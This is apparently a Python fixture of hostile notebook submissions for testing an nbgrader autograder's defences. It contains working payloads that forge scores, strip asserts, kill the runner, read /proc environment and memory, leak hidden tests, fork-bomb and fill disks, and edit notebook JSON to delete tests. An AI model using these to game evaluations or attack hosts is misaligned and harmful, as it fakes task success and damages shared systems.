"""Hostile notebook submissions: code put at the top of the learner's first answer cell, or files
dropped beside the notebook, or the notebook's JSON edited.

The kernel runs the learner's cells and the grader's test cells alike, so these attack the kernel
(error display, input transformers, exits), the runner that drives it, and the host.
"""

CELL_ATTACKS = {
    "nb-sys-exit-0": "import sys\nsys.exit(0)\n",
    "nb-os-exit-0": "import os\nos._exit(0)\n",
    "nb-kill-parent": "import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\nexcept OSError:\n    pass\n",
    "nb-kill-everything": "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass\n",
    "nb-ignore-interrupt-and-loop": (
        "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
        "while True:\n    pass\n"
    ),
    "nb-swallow-errors": (
        "ip = get_ipython()\nip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
    ),
    "nb-blank-later-cells": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
    "nb-strip-asserts": (
        "import ast\nclass _NoAssert(ast.NodeTransformer):\n    def visit_Assert(self, node):\n        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAssert())\n"
    ),
    "nb-hide-tracebacks": (
        "ip = get_ipython()\nip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None\n"
        "ip.showsyntaxerror = lambda *a, **k: None\n"
    ),
    "nb-patch-run-cell": (
        "ip = get_ipython()\n_orig = ip.run_cell\n"
        "def run_cell(raw_cell, *a, **k):\n    return _orig('None', *a, **k) if 'assert' in raw_cell else _orig(raw_cell, *a, **k)\n"
        "ip.run_cell = run_cell\n"
    ),
    "nb-patch-assertion-error": "import builtins\nbuiltins.AssertionError = type('AssertionError', (Exception,), {})\n",
    "nb-always-equal": (
        "class _Anything:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
        "    def __bool__(self):\n        return True\n    __hash__ = object.__hash__\n"
        "import builtins\n_orig_isinstance = builtins.isinstance\n"
        "builtins.isinstance = lambda obj, cls: True if type(obj) is _Anything else _orig_isinstance(obj, cls)\n"
        "def _pretend(*a, **k):\n    return _Anything()\n"
        "get_ipython().events.register('post_run_cell', lambda result: [globals().__setitem__(n, _pretend) for n, v in "
        "list(globals().items()) if callable(v) and getattr(v, '__module__', None) == '__main__' and not n.startswith('_') "
        "and getattr(v, '__name__', '') != '_pretend' and not isinstance(v, type)])\n"
    ),
    "nb-print-fake-results": (
        "import json\nfor gid in ('ex1-caches', 'ex2-caches', 'ex3-caches', 'ex4-caches', 'ex1-visibles'):\n"
        "    print(json.dumps({'event': 'cell', 'grade_id': gid, 'score': 100, 'max_score': 100, 'error': None}))\n"
        "print(json.dumps({'event': 'finish', 'stopped': False, 'error': None}))\n"
    ),
    "nb-forge-on-every-descriptor": (
        "import os, json\n"
        "lines = ''.join(json.dumps({'event': 'cell', 'grade_id': g, 'score': 100, 'max_score': 100, 'error': None}) + '\\n'\n"
        "                for g in ('ex1-caches', 'ex2-caches', 'ex3-caches', 'ex4-caches')).encode()\n"
        "for pid in os.listdir('/proc'):\n    for fd in range(64):\n        try:\n"
        "            f = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)\n            os.write(f, lines)\n"
        "        except (OSError, ValueError):\n            pass\n"
    ),
    "nb-read-runner-memory": (
        "import os\nfor pid in os.listdir('/proc'):\n    for name in ('environ', 'cmdline', 'mem', 'fd/0'):\n        try:\n"
        "            print(open(f'/proc/{pid}/{name}', 'rb').read(4096))\n        except (OSError, ValueError):\n            pass\n"
    ),
    "nb-leak-hidden-tests": (
        "import glob\nfor path in glob.glob('/cda/**/*', recursive=True):\n    try:\n        print(open(path).read())\n"
        "    except (OSError, UnicodeDecodeError):\n        pass\n"
        "ip = get_ipython()\n"
        "ip.events.register('pre_run_cell', lambda info: print(info.raw_cell))\n"
        "ip.events.register('post_run_cell', lambda result: (_ for _ in ()).throw(RuntimeError('\\n'.join(ip.user_ns['In']))))\n"
    ),
    "nb-fork-bomb": "import os\nfor _ in range(10000):\n    try:\n        os.fork()\n    except OSError:\n        break\n",
    "nb-memory-hog": "hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 * 1024))\n",
    "nb-output-flood": "import sys\nchunk = 'A' * (1 << 20)\nfor _ in range(4096):\n    sys.stdout.write(chunk)\n",
    "nb-disk-fill": (
        "import os\nblock = b'x' * (1 << 20)\nfor target in ('/workspace', '/tmp', os.path.expanduser('~')):\n"
        "    for i in range(100000):\n        try:\n            with open(os.path.join(target, f'fill{i}'), 'wb') as f:\n"
        "                for _ in range(64):\n                    f.write(block)\n        except OSError:\n            break\n"
    ),
    "nb-network-and-escape": (
        "import socket\nfor host, port in [('127.0.0.1', 5432), ('127.0.0.1', 6379), ('1.1.1.1', 53)]:\n"
        "    try:\n        socket.create_connection((host, port), timeout=1).close()\n        raise SystemExit('network')\n"
        "    except OSError:\n        pass\n"
        "for path in ['/etc/cda-pwned', '/root/pwned', '/cda/pwned', '/work/main/labs/pwned']:\n"
        "    try:\n        open(path, 'w').write('x')\n    except OSError:\n        pass\n"
    ),
    "nb-background-survivor": (
        "import subprocess\nsubprocess.Popen(['sh', '-c', 'trap \"\" HUP TERM INT; while :; do sleep 1; done'], start_new_session=True)\n"
    ),
}

FILE_ATTACKS = {
    "nb-config-files": {
        "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['get_ipython().input_transformers_cleanup.append(lambda l: [\"pass\\\\n\"])']\n",
        "ipython_kernel_config.py": "c.IPKernelApp.exec_lines = ['get_ipython().input_transformers_cleanup.append(lambda l: [\"pass\\\\n\"])']\n",
        "jupyter_config.py": "c.Execute.allow_errors = False\n",
        "nbgrader_config.py": "c.ClearSolutions.code_stub = {'python': 'pass'}\nc.Execute.timeout = 1\n",
        "sitecustomize.py": "import os\nos._exit(0)\n",
        "usercustomize.py": "import os\nos._exit(0)\n",
        "zzz.pth": "import os; os._exit(0)\n",
        "profile_default/startup/00-attack.py": "get_ipython().input_transformers_cleanup.append(lambda l: ['pass\\n'])\n",
        "conftest.py": "import os\nos._exit(0)\n",
    },
    "nb-shadow-modules": {
        "ipykernel_launcher.py": "import os\nos._exit(0)\n",
        "ipykernel/__init__.py": "import os\nos._exit(0)\n",
        "nbgrader/__init__.py": "",
        "json.py": "import os\nos._exit(0)\n",
        "traitlets.py": "import os\nos._exit(0)\n",
    },
}

# Edits of the notebook's JSON: (name, function applied to the parsed notebook dict).
def _raise_points(nb: dict) -> dict:
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000
    return nb


def _unlock_and_empty_tests(nb: dict) -> dict:
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            meta["locked"] = False
            cell["source"] = "pass"
    return nb


def _tests_as_answers(nb: dict) -> dict:
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            meta["solution"], meta["grade"] = True, False
            cell["source"] = "pass"
    return nb


def _delete_tests(nb: dict) -> dict:
    nb["cells"] = [c for c in nb["cells"] if not (c.get("metadata", {}).get("nbgrader", {}).get("grade")
                                                  and not c.get("metadata", {}).get("nbgrader", {}).get("solution"))]
    return nb


def _foreign_kernel(nb: dict) -> dict:
    nb["metadata"]["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return nb


def _duplicate_answers_with_test_ids(nb: dict) -> dict:
    extra = []
    for cell in nb["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") and not meta.get("solution"):
            extra.append({"cell_type": "code", "metadata": {"nbgrader": dict(meta)}, "source": "pass",
                          "outputs": [], "execution_count": None})
    nb["cells"] = extra + nb["cells"]
    return nb


JSON_ATTACKS = {
    "nb-raise-points": _raise_points,
    "nb-unlock-and-empty-tests": _unlock_and_empty_tests,
    "nb-tests-as-answers": _tests_as_answers,
    "nb-delete-tests": _delete_tests,
    "nb-foreign-kernel": _foreign_kernel,
    "nb-duplicate-test-ids": _duplicate_answers_with_test_ids,
}
